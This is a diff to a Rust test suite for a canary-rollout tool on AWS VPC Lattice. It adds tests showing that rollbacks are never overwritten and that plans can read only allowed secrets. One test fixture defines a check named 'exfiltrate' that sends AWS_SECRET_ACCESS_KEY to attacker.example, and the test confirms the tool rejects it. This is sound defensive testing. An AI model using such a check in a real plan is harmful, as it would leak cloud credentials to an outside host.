@@ -376,9 +376,10 @@ async fn a_concurrent_rollback_aborts_the_rollout_and_is_never_undone() {
         "production was already restored: nothing to restore"
     );
     let w = writes(&s.w.emu);
-    assert!(
-        w.iter().all(|op| op.ends_with("TagResource")),
-        "only the marker is written, never the weights: {w:?}"
+    assert_eq!(
+        w,
+        ["vpc-lattice:TagResource"],
+        "only the marker is written, never the weights"
     );
     assert_eq!(canary_share(&listener_weights(&s.w, &lat).await, &lat), 0);
 }
@@ -448,6 +449,8 @@ async fn re_running_a_step_is_harmless_and_a_crash_mid_move_is_resumed() {
         at_ms: 0,
         status: Status::Moving,
         stable: None,
+        why: None,
+        notified: false,
     };
     s.w.clients
         .lattice
@@ -617,4 +620,182 @@ async fn an_alias_rollout_ends_on_the_new_version_with_the_stable_pointer_moved(
         ("3".to_string(), vec![])
     );
     assert_eq!(alias_state(&s.w, "checkout", "blue").await.0, "3");
+}
+
+/// A rollback that restores production while the after-checks run (a slow check) is never
+/// written over: the move reads traffic just before writing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rollback_during_the_checks_is_never_written_over() {
+    let (s, lat) = lattice_world().await;
+    s.w.emu.control(
+        "POST",
+        "/_shiftguard/lambda/behaviour",
+        Some(&json!({"function": "orders", "version": "2", "delay_ms": 1500, "response": {"statusCode": 200}})),
+    );
+    let mut plan = lattice_plan(&lat, "orders-v2");
+    plan["rollout"]["checkFunction"] =
+        json!({"function": "orders", "version": "2", "currentVersion": "1"});
+    plan["rollout"]["checks"] = json!({"after": {"checks": [
+        {"name": "slow", "kind": "invoke", "expect": {"status": 200}, "timeout": "5s"}]}});
+    step(&s, &plan).await.unwrap();
+    tokio::time::sleep(Duration::from_millis(320)).await;
+
+    let judging = {
+        let (shift, plan) = (s.shift.clone(), plan.clone());
+        tokio::spawn(async move {
+            let config = ShiftConfig::from_vars(&[]).unwrap();
+            handle_shift(
+                &shift,
+                &config,
+                &plan,
+                Deadline::after(Duration::from_secs(60)),
+            )
+            .await
+        })
+    };
+    // While the check waits on the slow version: rollback restores production (the alarm has
+    // already cleared again when the checks end — the alarms' second read sees OK).
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let config = config(json!([{"alarms": [ALARM], "targets": [lattice_target(&lat)]}]));
+    let request = json!({"shiftguard": "rollback", "targets": [format!("lattice-listener:{}/{}", lat.service, lat.listener)],
+                         "reason": "INC-7", "requestedBy": "oncall"});
+    let restored = rollback::handle(
+        &s.w.clients,
+        &config,
+        &request,
+        Deadline::after(Duration::from_secs(30)),
+    )
+    .await
+    .expect("operator rollback");
+    assert_eq!(
+        serde_json::to_value(restored.targets[0].outcome).unwrap(),
+        "restored"
+    );
+
+    let judged = judging.await.unwrap().unwrap();
+    assert_eq!(
+        (judged.action, judged.status),
+        (Action::Aborted, "aborted"),
+        "{judged:?}"
+    );
+    assert!(
+        judged
+            .reason
+            .as_deref()
+            .unwrap()
+            .contains("restored outside the rollout"),
+        "{:?}",
+        judged.reason
+    );
+    assert!(judged.restore.is_none());
+    assert_eq!(
+        canary_share(&listener_weights(&s.w, &lat).await, &lat),
+        0,
+        "the rollback stands"
+    );
+}
+
+/// A crash after the last judgement left the marker `promoting`; rollback restored production
+/// since. The resumed promotion reads traffic first and aborts: production's targets untouched.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_promotion_resumed_after_a_rollback_aborts_and_keeps_production() {
+    let (s, lat) = lattice_world().await;
+    let arn =
+        s.w.clients
+            .lattice
+            .get_listener()
+            .service_identifier(&lat.service)
+            .listener_identifier(&lat.listener)
+            .send()
+            .await
+            .unwrap()
+            .arn
+            .unwrap();
+    let promoting = Marker {
+        id: "orders-v2".into(),
+        step: 3,
+        weight: 100,
+        at_ms: 0,
+        status: Status::Promoting,
+        stable: None,
+        why: None,
+        notified: false,
+    };
+    s.w.clients
+        .lattice
+        .tag_resource()
+        .resource_arn(&arn)
+        .tags(MARKER_KEY, promoting.encode())
+        .send()
+        .await
+        .unwrap();
+    s.w.emu.reset_calls();
+
+    let resumed = step(&s, &lattice_plan(&lat, "orders-v2")).await.unwrap();
+    assert_eq!(
+        (resumed.action, resumed.status),
+        (Action::Aborted, "aborted"),
+        "{resumed:?}"
+    );
+    assert!(
+        resumed
+            .reason
+            .as_deref()
+            .unwrap()
+            .contains("during promotion"),
+        "{:?}",
+        resumed.reason
+    );
+    assert_eq!(writes(&s.w.emu), ["vpc-lattice:TagResource"]);
+    assert_eq!(
+        targets(&s, &lat.production).await,
+        [version_arn(&s, "orders", "1").await]
+    );
+    let marker = listener_marker(&s, &lat).await.unwrap();
+    assert_eq!(
+        (marker.status, marker.why.as_deref()),
+        (Status::Aborted, Some("promotion"))
+    );
+}
+
+/// A plan arrives with the event: its checks may read only the variables the function's owner
+/// allows (SHIFT_ALLOWED_SECRETS), never AWS_*.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_plan_reads_only_the_secrets_it_is_allowed() {
+    let (s, lat) = lattice_world().await;
+    let mut plan = lattice_plan(&lat, "orders-v2");
+    plan["rollout"]["checks"] = json!({"after": {"checks": [{"name": "exfiltrate", "kind": "http",
+        "url": "https://attacker.example/x", "secretHeaders": {"X-Key": "AWS_SECRET_ACCESS_KEY"}}]}});
+    s.w.emu.reset_calls();
+    let vars = [
+        ("AWS_SECRET_ACCESS_KEY".to_string(), "s3cr3t".to_string()),
+        (
+            "SHIFT_ALLOWED_SECRETS".to_string(),
+            "AWS_SECRET_ACCESS_KEY,PARTNER_TOKEN".to_string(),
+        ),
+    ];
+    let e = step_with(&s, &plan, &vars).await.unwrap_err();
+    assert_eq!(e.error_type(), "Shift.InvalidPlan");
+    assert!(
+        e.to_string().contains("AWS_SECRET_ACCESS_KEY") && e.to_string().contains("exfiltrate"),
+        "{e}"
+    );
+    assert!(!e.to_string().contains("s3cr3t"));
+    plan["rollout"]["checks"]["after"]["checks"][0]["secretHeaders"] =
+        json!({"X-Key": "PARTNER_TOKEN"});
+    let e = step_with(&s, &plan, &vars[..1]).await.unwrap_err();
+    assert!(
+        e.to_string().contains("PARTNER_TOKEN") && e.to_string().contains("SHIFT_ALLOWED_SECRETS"),
+        "{e}"
+    );
+    assert!(s.w.emu.calls().is_empty(), "refused before any AWS call");
+    // Allowed and set: the plan runs.
+    let ok = [
+        vars[1].clone(),
+        ("PARTNER_TOKEN".to_string(), "t0ken".to_string()),
+    ];
+    assert_eq!(
+        step_with(&s, &plan, &ok).await.unwrap().action,
+        Action::Started
+    );
 }
